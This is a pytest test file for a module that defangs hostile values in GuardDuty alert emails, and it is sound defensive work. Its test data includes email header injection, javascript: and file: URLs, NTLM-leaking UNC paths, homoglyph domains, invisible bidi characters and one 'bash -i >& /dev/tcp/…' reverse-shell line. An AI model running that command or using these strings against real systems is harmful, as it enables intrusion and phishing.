"""The one cleaning path: every hostile class, in single and grouped emails, text and HTML, en and ja.

Each fixture in tests/fixtures/hostile carries one class of hostile value (see the README there).
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

import pytest

from responder.domain.classify import classify
from responder.domain.cleaning import GUARDDUTY_DOTTED_NAMES, clean, defang, shown
from responder.domain.digest import render_digest
from responder.domain.render import Email, render
from responder.domain.settings import Settings
from tests.conftest import FIXTURES, finding_from, finding_types

LANGS = ("en", "ja")
FORMS = ("single", "grouped")


@dataclass(frozen=True)
class Expect:
    """What a hostile fixture must never show, and what it must show instead (per email form)."""

    forbidden: tuple[str, ...]
    single: tuple[str, ...] = ()
    grouped: tuple[str, ...] = ()
    subject: tuple[str, ...] = ()  # in the ASCII subject, the translated one, and atop both bodies
    # A resource name that fails its AWS naming rule: atop the body (cleaned), never in a subject.
    top: tuple[str, ...] = ()
    lines: tuple[str, ...] = field(default=())  # no body line may start with these


HOSTILE: dict[str, Expect] = {
    "type_header_injection": Expect(
        forbidden=("victim@", "evil.example", "http://", "\u202e", "\r"),
        single=("Portscan Bcc: victim[@]evil[.]example [U+202E]hxxp[://]evil[.]example/x",),
        grouped=("Portscan Bcc: victim[@]evil[.]example [U+202E]hxxp[://]evil[.]example/x",),
        lines=("Bcc:",),
    ),
    "timestamps": Expect(
        forbidden=("https://", "evil.example", "javascript:", "evil.support", "x@evil", "evil.page", "\u202e"),
        single=(
            "hxxps[://]evil[.]example/first",
            "javascript[:]alert(1)",
            "login[.]evil[.]support",
            "x[@]evil[.]page[U+202E]",
        ),
        grouped=("hxxps[://]evil[.]example/first", "javascript[:]alert(1)"),
    ),
    "resource_container": Expect(
        forbidden=("https://", "evil.example", "x@y"),
        single=("hxxps[://]evil[.]example/x[@]y",),
        top=("hxxps[://]evil[.]example/x[@]y",),  # no Docker container name
    ),
    "resource_bucket": Expect(
        forbidden=("login.evil.example", "evil.example"),
        single=("login[.]evil[.]example",),
        grouped=("login[.]evil[.]example",),
        subject=("login[.]evil[.]example",),
    ),
    "resource_user": Expect(
        forbidden=("x@evil", "evil.example"),
        single=("x[@]evil[.]example",),
        grouped=("x[@]evil[.]example",),
        subject=("x[@]evil[.]example",),
    ),
    "any_tld": Expect(
        forbidden=("evil.support", "evil.page", "evil.security", "evil.ninja"),
        single=("account[.]evil[.]support", "verify[.]evil[.]page", "go[.]evil[.]ninja", "c2[.]evil[.]security"),
        grouped=("account[.]evil[.]support",),
    ),
    "lookalike_domains": Expect(
        forbidden=("amazon\uff0ecom", "paypal\u3002com", "paypal\uff61com", "\uff50\uff41", "\u0430pple", "amazon.com"),
        single=("amazon[.]com", "Log in at paypal[.]com, paypal[.]com or xn--pple-43d[.]com", "paypal[.]com"),
        grouped=("Reset your password at amazon[.]com",),
    ),
    "schemes": Expect(
        forbidden=("javascript:", "JaVaScRiPt:", "data:", "vbscript:", "file:", "ftp:", "mailto:", "http:", "https:"),
        single=(
            "javascript[:]alert(1)",
            "JaVaScRiPt[:]alert(2)",
            "data[:]text/html",
            "vbscript[:]msgbox(1)",
            "file[:///]etc/passwd",
            "ftp[://]files[.]evil[.]example/x",
            "mailto[:]victim[@]evil[.]example",
            "HxxPS[:\\\\]evil[.]example",
            "ssh[://]evil[.]example",
            "ms-msdt[:/]id",
            "Open hxxp[://]evil[.]example/login",
        ),
        grouped=("Open hxxp[://]evil[.]example/login",),
    ),
    "invisible": Expect(
        forbidden=("\u202e", "\u200b", "\ufeff", "\u2066", "\u2069", "\U000e0041", "\x1b", "\x85", "\u200d"),
        single=(
            "Invoice [U+202E]gpj[.]exe",
            "pay[U+200B]pal [U+FEFF]BOM [U+2066]isolate[U+2069] [U+E0041]tag [U+001B][31mred[U+0085]next",
            "Get[U+200D]Object",
            "agent[U+202E]/1.0",
        ),
        grouped=("Invoice [U+202E]gpj[.]exe",),
    ),
    "path_shaped": Expect(
        # Only the file name of a path fact (executable, lineage, object key, script path) is
        # left readable, never the type, the resource label, a title or a description.
        forbidden=(
            *("login.microsoftonline.com", "paypal.com", "www.evil.com", "evil.page", "www.evil.net"),
            *("login.evil.example", "evil.support"),
        ),
        single=(
            "./login[.]microsoftonline[.]com",
            "Visit ./paypal[.]com now",
            "see /x/www[.]evil[.]com/login or ~/evil[.]page and C:/www[.]evil[.]net",
            "C:/www[.]evil[.]com",
            "a=/x/login[.]evil[.]example",
            "/opt/www[.]evil[.]com/x",
            "./evil[.]support",
        ),
        grouped=("./login[.]microsoftonline[.]com", "Visit ./paypal[.]com now"),
        subject=("./login[.]microsoftonline[.]com",),
        top=("C:/www[.]evil[.]com",),  # no Docker container name
    ),
    "path_resource": Expect(
        forbidden=("login.microsoftonline.com",),
        single=("a=/x/login[.]microsoftonline[.]com",),
        top=("a=/x/login[.]microsoftonline[.]com",),  # no IAM user name
    ),
    "scheme_prefixes": Expect(
        forbidden=("https://", "http://", "javascript:", "ftp://"),
        single=(
            "+hxxps[://]3232235777/x .hxxps[://]3232235777/y +javascript[:]alert(1)",
            "a[.]http[://]0x7f000001/ 1hxxps[://]evil[.]example/z x_ftp[://]files",
        ),
        grouped=("+hxxps[://]3232235777/x .hxxps[://]3232235777/y +javascript[:]alert(1)",),
    ),
    "unc": Expect(
        forbidden=("\\\\3232235777", "\\\\evil", "\\\\fileserver"),
        single=("open [\\\\]3232235777\\share or [\\\\]evil\\share", "[\\\\]fileserver[.]corp\\x"),
        grouped=("open [\\\\]3232235777\\share or [\\\\]evil\\share",),
    ),
    "idn_ideographic_stop": Expect(
        forbidden=("\u3002\u0441om", "\u043f\u0440\u0438\u043c\u0435\u0440\u3002", "\uff61\u043f"),
        single=(
            "paypal[.]xn--om-nmc and xn--e1afmkfd[.]xn--p1ai and hxxps[://]xn--e1afmkfd[.]xn--p1ai/x",
            "www[.]xn--e1afmkfd[.]xn--p1ai",
        ),
        grouped=("paypal[.]xn--om-nmc and xn--e1afmkfd[.]xn--p1ai and hxxps[://]xn--e1afmkfd[.]xn--p1ai/x",),
    ),
    "readable_japanese": Expect(
        # Japanese stays readable: no punycode for Japanese labels, no defanged file name in a path
        forbidden=("xn--", "写真[.]jpg", "Chrome/120.0.0[.]0"),
        single=(
            "ログはCloudTrail[.]Athenaで確認しました。次はGuardDutyです",
            "uploads/写真.jpg",
            "東京リージョン[.]本番",
            "請求書[.]pdf を開きました",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0",
        ),
        grouped=("ログはCloudTrail[.]Athenaで確認しました。次はGuardDutyです",),
    ),
    "nfkc_lookalikes": Expect(
        # Matched on NFKC, but never shown as the ASCII name it imitates: the raw form and a marker
        forbidden=("/usr/bin/sshd", "by admin", "user root"),
        single=(
            "/usr/bin/\uff53\uff53\uff48\uff44[\u2248sshd]",
            "Login by \uff41\uff44\uff4d\uff49\uff4e[\u2248admin] at evil[.]example",
            "\U0001d42b\U0001d428\U0001d428\U0001d42d[\u2248root]",
            "ssh\u1d48[\u2248sshd]",
        ),
        grouped=("Login by \uff41\uff44\uff4d\uff49\uff4e[\u2248admin] at evil[.]example",),
    ),
    "invisible_more": Expect(
        forbidden=("\u2065", "\u3164", "\u034f", "\ufe0f", "\U000e0100", "\u180b", "\ufff0", "\U0010fffe"),
        single=(
            "pay[U+2065]pal ad[U+3164]min ro[U+034F]ot a[U+FE0F]b c[U+E0100]d e[U+180B]f",
            "z\u0301\u0301\u0301[+37 marks]",
            "[U+FFF0][U+E0080][U+E01F0][U+10FFFE] [U+115F][U+17B4][U+FFA0]",
        ),
        grouped=("pay[U+2065]pal ad[U+3164]min ro[U+034F]ot a[U+FE0F]b c[U+E0100]d e[U+180B]f",),
    ),
    "readable": Expect(
        forbidden=("AnomalousBehavior[.]", "libc[.]so", "m5[.]large", "payload[.]sh", "13[.]6", "00[.]000Z"),
        single=(
            "CredentialAccess:RDS/AnomalousBehavior.SuccessfulLogin",
            "Version 13.6 of /lib/x86_64-linux-gnu/libc.so.6 loaded",
            "m5.large",
            "/tmp/stage/payload.sh",  # noqa: S108 (a file path shown, not used)
            "2026-11-20T09:50:00.000Z",
        ),
        grouped=(
            "CredentialAccess:RDS/AnomalousBehavior.SuccessfulLogin",
            "Version 13.6 of /lib/x86_64-linux-gnu/libc.so.6 loaded",
            "2026-11-20T09:50:00.000Z",
        ),
        subject=("CredentialAccess:RDS/AnomalousBehavior.SuccessfulLogin",),
    ),
}


def _email(name: str, form: str, lang: str) -> Email:
    settings = Settings(language=lang)
    c = classify(finding_from(FIXTURES / "hostile" / f"{name}.json"), settings)
    if form == "single":
        return render(c, settings.locale)
    # A benign neighbour makes it a real grouped email (and checks the hostile one cannot spill over).
    benign = classify(finding_from("events/UnauthorizedAccess_EC2_SSHBruteForce.json"), settings)
    return render_digest([(c, None), (benign, None)], kind="ALERTS", locale=settings.locale)


def _shown_parts(email: Email) -> list[str]:
    """Every place of an email a reader sees, links we build removed (they are ours, not the finding's)."""
    link = re.compile(r"https://[a-z0-9.-]*console\.aws\.amazon\.com/\S*|https://docs\.aws\.amazon\.com/\S*")
    parts = [email.subject, email.local_subject or "", email.text, email.html]
    return [link.sub("", part.replace("&amp;", "&")) for part in parts]


def test_every_hostile_fixture_has_expectations():
    # Given the fixtures folder / Then each file is checked below (a new one cannot go untested)
    assert sorted(HOSTILE) == sorted(path.stem for path in (FIXTURES / "hostile").glob("*.json"))


@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_values_are_cleaned_in_every_email_form(name, form, lang):
    # Given a finding carrying one hostile class / When it is emailed alone or grouped, en or ja
    email = _email(name, form, lang)
    expect = HOSTILE[name]
    # Then nothing hostile shows in the subject, the text or the HTML ...
    for part in _shown_parts(email):
        for bad in expect.forbidden:
            assert bad not in part, (bad, part[:300])
    # ... the cleaned form shows in both bodies instead ...
    for good in expect.single if form == "single" else expect.grouped:
        assert good in email.text, good
        assert good.replace("&", "&amp;") in email.html, good
    # ... and no line is forged
    for line in email.text.splitlines():
        assert not line.startswith(expect.lines or ("\0",)), line


@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("name", sorted(name for name, expect in HOSTILE.items() if expect.subject))
def test_resource_identifiers_are_defanged_in_the_subject_and_atop_both_bodies(name, lang):
    # Given a resource named like a URL, a host or an address / When it is emailed
    email = _email(name, "single", lang)
    # Then the subject stays printable ASCII within the SNS limit and shows the defanged form ...
    assert re.fullmatch(r"[ -~]{1,99}", email.subject)
    for good in HOSTILE[name].subject:
        assert good in email.subject
        # ... as do the translated subject and the top of both bodies
        assert good in email.display_subject
        assert email.text.splitlines()[0] == email.display_subject
        assert f"<title>{email.display_subject}</title>" in email.html


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        # hostnames and URLs: defanged whatever the top-level domain
        ("login.evil.support", "login[.]evil[.]support"),
        ("a.page b.security c.ninja d.zip", "a[.]page b[.]security c[.]ninja d[.]zip"),
        ("see x/evil.com", "see x/evil[.]com"),
        ("/paypal.com", "/paypal[.]com"),  # a bare root is not a directory
        ("「evil.com」", "「evil[.]com」"),
        ("http://x.y/a", "hxxp[://]x[.]y/a"),  # after a scheme comes a host, whatever its last label
        # a UNC path (Outlook links it; a click sends the reader's NTLM hash) loses its live backslashes
        ("\\\\server.evil.example\\share", "[\\\\]server[.]evil[.]example\\share"),
        ("open \\\\3232235777\\share or (\\\\evil\\s)", "open [\\\\]3232235777\\share or ([\\\\]evil\\s)"),
        ("C:\\dir\\\\x", "C:\\dir\\\\x"),  # not at a token's start: a doubled separator
        ("Recon:EC2/paypal.Direct", "Recon:EC2/paypal[.]Direct"),  # not GuardDuty's own name
        # look-alikes: normalised (NFKC) or shown as punycode
        ("amazon\uff0ecom", "amazon[.]com"),
        ("paypal\u3002com", "paypal[.]com"),
        (
            "\uff48\uff54\uff54\uff50\uff53\uff1a\uff0f\uff0f\uff45\uff56\uff49\uff4c\uff0e\uff43\uff4f\uff4d",
            "hxxps[://]evil[.]com",
        ),
        ("\u0430pple.com", "xn--pple-43d[.]com"),
        # ... the ideographic full stop too, between any labels but two Japanese ones
        ("paypal\u3002\u0441om", "paypal[.]xn--om-nmc"),
        ("\u043f\u0440\u0438\u043c\u0435\u0440\u3002\u0440\u0444", "xn--e1afmkfd[.]xn--p1ai"),
        ("www\uff61\u043f\u0440\u0438\u043c\u0435\u0440\u3002\u0440\u0444", "www[.]xn--e1afmkfd[.]xn--p1ai"),
        ("https://\u043f\u0440\u0438\u043c\u0435\u0440\u3002\u0440\u0444/x", "hxxps[://]xn--e1afmkfd[.]xn--p1ai/x"),
        ("\u3042.\u0430pple.com", "\u3042[.]xn--pple-43d[.]com"),  # a label that can pass for Latin: punycode
        ("b\u00fccher.example", "xn--bcher-kva[.]example"),
        ("i\u2764.ws", "xn--i-7iq[.]ws"),
        # schemes
        ("JaVaScRiPt:alert(1)", "JaVaScRiPt[:]alert(1)"),
        ("https:/evil.example", "hxxps[:/]evil[.]example"),
        ("s3://bucket.evil.example/k", "s3[://]bucket[.]evil[.]example/k"),
        # ... whatever comes before them (a linkifier starts a URL there too)
        ("+https://3232235777/x .https://3232235777/y", "+hxxps[://]3232235777/x .hxxps[://]3232235777/y"),
        ("a.http://0x7f000001/ 1https://x a_ftp://y", "a[.]http[://]0x7f000001/ 1hxxps[://]x a_ftp[://]y"),
        ("+javascript:alert(1) 1data:text/html,x", "+javascript[:]alert(1) 1data[:]text/html,x"),
        ("git+https://x.example +ssh://y", "git+hxxps[://]x[.]example +ssh[://]y"),
        ("metadata: x, profile:/y", "metadata: x, profile[:/]y"),  # inside a word: not a scheme, but :/ is
        ("a.FTP:x1.example evil.news:443", "a[.]FTP[:]x1[.]example evil[.]news[:]443"),  # a run ending in one
        # ... but a word, a colon and a space is prose: nothing follows the colon to link
        ("Malicious file: /var/tmp/.kworkerds.", "Malicious file: /var/tmp/.kworkerds."),
        ("Data: 3 items, tel: none", "Data: 3 items, tel: none"),
        ("javascript: alert(1) javascript:alert(2) file:", "javascript: alert(1) javascript[:]alert(2) file[:]"),
        ("https: //evil.example, FILE:/x", "https: //evil[.]example, FILE[:/]x"),
        # readable: not hostnames
        ("UnauthorizedAccess:EC2/SSHBruteForce", "UnauthorizedAccess:EC2/SSHBruteForce"),
        # GuardDuty's own dotted names are readable in a finding type only (.direct is a real TLD)
        ("PromptInjection.Direct or AnomalousBehavior.Write", "PromptInjection[.]Direct or AnomalousBehavior[.]Write"),
        ("CryptoCurrency:EC2/BitcoinTool.B!DNS", "CryptoCurrency:EC2/BitcoinTool.B!DNS"),
        ("/lib/libc.so.6", "/lib/libc.so.6"),
        # a value that is not a path fact gets no path exemption, whatever its shape
        ("/tmp/x/payload.sh and ~/run.py and ./a.sh", "/tmp/x/payload[.]sh and ~/run[.]py and ./a[.]sh"),  # noqa: S108
        ("C:\\Windows\\evil.dll", "C:\\Windows\\evil[.]dll"),
        ("scriptPath=/tmp/x/evil.sh", "scriptPath=/tmp/x/evil[.]sh"),
        ("./login.microsoftonline.com", "./login[.]microsoftonline[.]com"),
        ("C:/www.evil.com a=/x/login.evil.example", "C:/www[.]evil[.]com a=/x/login[.]evil[.]example"),
        (
            "Visit ./paypal.com now, see /x/www.evil.com/login",
            "Visit ./paypal[.]com now, see /x/www[.]evil[.]com/login",
        ),
        ("m5.large c6gn.16xlarge t2.micro", "m5.large c6gn.16xlarge t2.micro"),
        ("Python/3.11.4 Linux/5.10.186-179.751.amzn2.x86_64", "Python/3.11.4 Linux/5.10.186-179.751.amzn2.x86_64"),
        ("2026-11-20T09:50:00.000Z", "2026-11-20T09:50:00.000Z"),
        # a user agent's four-part version is no address; an address after a path still is
        ("Mozilla/5.0 (X11) Chrome/120.0.0.0 Safari/537.36", "Mozilla/5.0 (X11) Chrome/120.0.0.0 Safari/537.36"),
        ("bash -i >& /dev/tcp/198.51.100.66/4444", "bash -i >& /dev/tcp/198.51.100[.]66/4444"),
        # Japanese: a full stop between Japanese words ends a sentence; one beside Latin letters
        # may be a host's dot and is defanged, but Japanese labels are shown as written
        ("確認しました。次へ", "確認しました。次へ"),
        ("しました。AWS", "しました[.]AWS"),
        ("ログはCloudTrail。Athenaで確認", "ログはCloudTrail[.]Athenaで確認"),
        ("写真.jpg 請求書.pdf 東京リージョン.本番", "写真[.]jpg 請求書[.]pdf 東京リージョン[.]本番"),
        ("한국어.kr", "한국어[.]kr"),
        ("Chrome/120.0.0.0", "Chrome/120.0.0.0"),
    ],
)
def test_defang_tells_hostnames_and_urls_from_types_paths_and_versions(raw, expected):
    assert defang(raw) == expected


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        # the file name of a path with at least one directory stays readable ...
        ("/tmp/x/payload.sh", "/tmp/x/payload.sh"),  # noqa: S108
        ("C:\\Windows\\evil.dll", "C:\\Windows\\evil.dll"),
        ("./x/a.sh, ~/bin/run.py, ../lib/x.so", "./x/a.sh, ~/bin/run.py, ../lib/x.so"),
        ("scriptPath=/tmp/x/evil.sh", "scriptPath=/tmp/x/evil.sh"),
        ("uploads/invoice.pdf", "uploads/invoice.pdf"),  # an S3 object key: rooted at its bucket
        ("uploads/写真.jpg, uploads/r\u00e9sum\u00e9.docx", "uploads/写真.jpg, uploads/r\u00e9sum\u00e9.docx"),
        # ... and so does every directory below the first one: each is a name inside a path
        ("/etc/cron.hourly/.sync", "/etc/cron.hourly/.sync"),
        ("incoming/2026/v1.2/report.pdf.exe", "incoming/2026/v1.2/report.pdf.exe"),
        ("/home/dev/site.example.org/app/run.sh", "/home/dev/site.example.org/app/run.sh"),
        ("sshd (pid 7; uid 0) /usr/lib/x.d/sshd.bin", "sshd (pid 7; uid 0) /usr/lib/x.d/sshd.bin"),
        ("(snap-0c3a5e7f9b1d2468a; /dev/xvda) /etc/cron.d/.x", "(snap-0c3a5e7f9b1d2468a; /dev/xvda) /etc/cron.d/.x"),
        # ... never the first one (``evil.page/x`` reads as a host and a path), a www host, a
        # name without a directory, or a host before whitespace
        ("/evil.page/x/y.sh, my.bucket.example/k", "/evil[.]page/x/y.sh, my[.]bucket[.]example/k"),
        ("(my.bucket.example) k/a.sh", "(my[.]bucket[.]example) k/a.sh"),
        ("/tmp/www.evil.com/x", "/tmp/www[.]evil[.]com/x"),  # noqa: S108
        ("./a.sh, ~/run.py, /evil.page, C:/www.evil.com", "./a[.]sh, ~/run[.]py, /evil[.]page, C:/www[.]evil[.]com"),
        ("/srv/www.evil.com", "/srv/www[.]evil[.]com"),
        ("/tmp/x/a.sh evil.page", "/tmp/x/a.sh evil[.]page"),  # noqa: S108
        ("evil.page/x/y.sh", "evil[.]page/x/y.sh"),
        # ... nor one whose directories hold a URL's host, an address, an ARN or a UNC server
        ("/x/https://evil.page/a.sh", "/x/hxxps[://]evil[.]page/a[.]sh"),
        ("scriptPath=//evil.example, scriptPath=/evil.page", "scriptPath=//evil[.]example, scriptPath=/evil[.]page"),
        ("arn:aws:iam::123456789012:user/evil.example", "arn:aws:iam::123456789012:user/evil[.]example"),
        ("/x/a@evil.page/b.sh, \\\\srv\\share\\evil.page", "/x/a[@]evil[.]page/b[.]sh, [\\\\]srv\\share\\evil[.]page"),
    ],
)
def test_a_path_facts_names_below_a_directory_are_left_readable(raw, expected):
    # Given a path fact (executable, lineage, object key, script path) / When shown
    # Then every component below its first directory is readable (a www host aside) and every
    # other hostname-like part defanged
    assert defang(raw, paths=True) == expected
    assert shown(raw, 200, paths=True) == expected


@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("name", sorted(name for name, expect in HOSTILE.items() if expect.top))
def test_resource_names_that_fail_their_naming_rule_show_atop_the_body_only(name, lang):
    # Given a resource whose name is no valid name of its kind (a container named like a URL)
    email = _email(name, "single", lang)
    how_bad = email.text.split("\n\n")[1]  # the first section, under the subject line
    for good in HOSTILE[name].top:
        # When emailed / Then no subject names it, and the top of the body shows it cleaned
        assert good not in email.subject and good not in email.display_subject
        assert good in how_bad, how_bad


def test_the_subject_type_gets_no_path_exemption():
    # Given a type shaped like a path ending in a host
    event = finding_from(FIXTURES / "hostile" / "path_shaped.json")
    email = render(classify(event, Settings()))
    # When emailed / Then the subject shows it defanged (the container name, no valid name, is not there)
    assert email.subject.startswith("[GuardDuty MEDIUM 5.0] ./login[.]microsoftonline[.]com ")
    assert "www" not in email.subject


@pytest.mark.parametrize(
    "dotted", sorted({t["finding_type"].split("/")[-1].split("!")[0] for t in finding_types()} - {""})
)
def test_every_published_finding_type_reads_as_published(dotted):
    # Given each finding type GuardDuty publishes / When shown / Then it is not defanged
    full = next(t["finding_type"] for t in finding_types() if t["finding_type"].split("/")[-1].startswith(dotted))
    assert defang(full, finding_type=True) == full
    assert shown(full, 200, finding_type=True) == full
    if "." in dotted and len(dotted.split(".")[-1]) > 1:
        assert dotted in GUARDDUTY_DOTTED_NAMES


def test_invisible_characters_become_visible_markers_and_line_breaks_go():
    # Given controls, bidi overrides, zero-width characters and every kind of line break
    raw = "a\r\nb\x85c\u2028d\x0be\u202ef\u200bg\U000e0041h"
    # When cleaned for one line / Then nothing is silently removed and no line break is left
    assert clean(raw, 200) == "a b[U+0085]c d[U+000B]e[U+202E]f[U+200B]g[U+E0041]h"
    assert clean("a\r\nb\u2029c", 200, multiline=True) == "a\nb\nc"


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("/usr/bin/\uff53\uff53\uff48\uff44", "/usr/bin/\uff53\uff53\uff48\uff44[\u2248sshd]"),  # fullwidth
        (
            "\U0001d42b\U0001d428\U0001d428\U0001d42d uid 0",
            "\U0001d42b\U0001d428\U0001d428\U0001d42d[\u2248root] uid 0",
        ),
        ("ssh\u1d48 and s\uff53hd", "ssh\u1d48[\u2248sshd] and s\uff53hd[\u2248sshd]"),  # superscript, mixed
        ("\uff21\uff37\uff33\u306e\uff25\uff23\uff12", "\uff21\uff37\uff33\u306e\uff25\uff23\uff12"),  # Japanese
        ("\uff08\u6a29\u9650\uff09\uff1a\u3000OK\uff01", "\uff08\u6a29\u9650\uff09\uff1a\u3000OK\uff01"),  # punctuation
        ("\uff50\uff41\uff59\uff50\uff41\uff4c\uff0e\uff43\uff4f\uff4d/x", "paypal[.]com/x"),  # a host: as resolved
    ],
)
def test_a_look_alike_is_matched_on_nfkc_but_never_shown_as_the_real_thing(raw, expected):
    # Given text that NFKC turns into ASCII (fullwidth, mathematical, superscript letters)
    # When shown / Then hosts and schemes are found on the NFKC form and defanged in it, while
    # anything else keeps its raw form, marked [≈...] when it imitates an ASCII word
    assert shown(raw, 200) == expected


def test_unassigned_and_default_ignorable_characters_and_mark_stacks_are_made_visible():
    # Given what the crafted events rendered as "pay⁥pal adᅠmin ro͏ot": unassigned (U+2065,
    # U+FFF0, U+E0080, U+E01F0, U+10FFFE), a Hangul filler, a grapheme joiner, variation
    # selectors, and 40 combining accents on one letter
    raw = "pay\u2065pal ad\u3164min ro\u034fot a\ufe0fb c\U000e0100d e\u180bf \ufff0\U000e0080\U000e01f0\U0010fffe"
    stack = "z" + "\u0301" * 40
    # When cleaned / Then each is a visible marker, and the stack keeps three accents
    assert clean(raw, 500) == (
        "pay[U+2065]pal ad[U+3164]min ro[U+034F]ot a[U+FE0F]b c[U+E0100]d e[U+180B]f "
        "[U+FFF0][U+E0080][U+E01F0][U+10FFFE]"
    )
    assert clean(stack, 500) == "z\u0301\u0301\u0301[+37 marks]"
    assert shown("\u3164", 10) == "[U+3164]"
    assert clean("Ti\u1ebfng Vi\u1ec7t, e\u0301\u0302 and \u0915\u093f", 100) == (
        "Ti\u1ebfng Vi\u1ec7t, e\u0301\u0302 and \u0915\u093f"  # real text keeps its marks
    )


def test_shown_takes_no_shortcut_past_a_unc_path():
    # Given a UNC path with no dot, colon or @ (what the cheap pre-checks looked for)
    # When shown / Then it is neutralised all the same
    assert shown("\\\\evil\\share", 100) == "[\\\\]evil\\share"
    assert defang("\\\\evil\\share") == "[\\\\]evil\\share"


def test_shown_bounds_before_defanging_so_a_marker_is_never_cut():
    # Given a long value with a host at the cut / When shown / Then the host is defanged whole
    assert shown("x" * 10 + " evil.example", 20) == "xxxxxxxxxx evil[.]exam [truncated]"
    assert shown("a" * 50, 10, marker="[省略]") == "a" * 10 + " [省略]"


def test_indicators_are_defanged_whatever_their_last_label():
    assert defang("host.123", indicator=True) == "host[.]123"
    assert defang("\u0430pple.internal", indicator=True) == "xn--pple-43d[.]internal"
    assert defang("2001:db8::1", indicator=True) == "2001:db8:[:]1"
    assert defang("2001:db8::1, fe80::7", indicator=True) == "2001:db8:[:]1, fe80:[:]7"


def test_the_ipv6_rule_touches_only_ipv6_shaped_tokens():
    # Given indicator values with colons that are no IPv6 address (IAM actions, a type)
    # When defanged as indicators / Then they read as written
    assert defang("s3:GetObject, s3:ListBucket", indicator=True) == "s3:GetObject, s3:ListBucket"
    assert defang("secretsmanager:GetSecretValue", indicator=True) == "secretsmanager:GetSecretValue"
    assert defang("ab:cd", indicator=True) == "ab:cd"  # hex words, but one colon: no address
    assert defang("203.0.113.7", indicator=True) == "203.0.113[.]7"


def test_an_invalid_idna_name_is_still_shown_as_punycode():
    # Given a non-ASCII host that IDNA 2008 refuses (a symbol, a too-long label)
    assert defang("\u2603.example") == "xn--n3h[.]example"
    assert defang("\u00e9" * 70 + ".example").startswith("xn--")


def test_hostile_input_costs_linear_time():
    # Given long runs that a backtracking pattern would choke on / When defanged / Then it returns fast
    import time

    for value in ("a" * 50_000 + ":", "a." * 25_000, "/a.bc" * 10_000, "\u0430" * 50_000 + ".x"):
        start = time.perf_counter()
        defang(value)
        assert time.perf_counter() - start < 2.0


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("写真。jpg", "写真[.]jpg"),  # a Latin label after it: a host's dot
        ("evil。com", "evil[.]com"),
        ("東京。com。次へ", "東京[.]com[.]次へ"),  # each stop with Latin on one side
        ("請求書｡東京", "請求書｡東京"),  # U+FF61 (NFKC: U+3002) between two Japanese words: a sentence stop
        ("確認しました。次へ", "確認しました。次へ"),
    ],
)
def test_an_ideographic_full_stop_is_a_dot_unless_it_ends_a_japanese_sentence(raw, expected):
    # Given U+3002 (or U+FF61) after a host label, or between two Japanese characters
    # When defanged / Then it is a host's dot, except between two Japanese characters
    assert defang(raw) == expected


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Chrome/120.0.0.0", "Chrome/120.0.0.0"),  # a product token at the start
        ("curl (aws-cli/2.0.1.2)", "curl (aws-cli/2.0.1.2)"),  # after a bracket
        ("x" * 40 + "Chrome/120.0.0.0", "x" * 40 + "Chrome/120.0.0[.]0"),  # inside a long word: no product
    ],
)
def test_a_user_agent_version_reads_as_written_only_after_a_product_token(raw, expected):
    # Given a version after a product name, at the start, after a bracket, or at the end of a
    # word longer than a product name (where only the last characters are looked at)
    # When defanged / Then only a real product token keeps its version readable
    assert defang(raw) == expected


# Default_Ignorable_Code_Point (Unicode DerivedCoreProperties.txt, stable since 5.2 but for
# U+180F, added in 14.0): the characters a renderer may draw as nothing. Written out here so the
# test does not trust the implementation's own list.
DEFAULT_IGNORABLE = (
    *((0x00AD, 0x00AD), (0x034F, 0x034F), (0x061C, 0x061C), (0x115F, 0x1160), (0x17B4, 0x17B5)),
    *((0x180B, 0x180F), (0x200B, 0x200F), (0x202A, 0x202E), (0x2060, 0x206F), (0x3164, 0x3164)),
    *((0xFE00, 0xFE0F), (0xFEFF, 0xFEFF), (0xFFA0, 0xFFA0), (0xFFF0, 0xFFF8), (0x1BCA0, 0x1BCA3)),
    *((0x1D173, 0x1D17A), (0xE0000, 0xE0FFF)),
)


def invisible(char: str) -> bool:
    """A control, format, surrogate, private-use, unassigned or default-ignorable character
    (tab, CR and LF are line structure)."""
    import unicodedata

    code = ord(char)
    return char not in "\t\n\r" and (
        unicodedata.category(char) in {"Cc", "Cf", "Cs", "Co", "Cn"}
        or any(first <= code <= last for first, last in DEFAULT_IGNORABLE)
    )


def test_every_invisible_code_point_and_only_those_become_markers():
    # Given every code point of this interpreter's Unicode, each between two letters
    import sys

    from responder.domain.cleaning import INVISIBLE, visible_marker

    chars = [chr(code) for code in range(sys.maxunicode + 1)]
    # When the cleaning's class replaces what it finds (as clean does, on the whole text at once)
    marked = INVISIBLE.sub(visible_marker, "".join(f"a{char}" for char in chars))
    # Then exactly the invisible ones are markers, everything else is kept as written
    assert marked == "".join(f"a{visible_marker(char) if invisible(char) else char}" for char in chars)
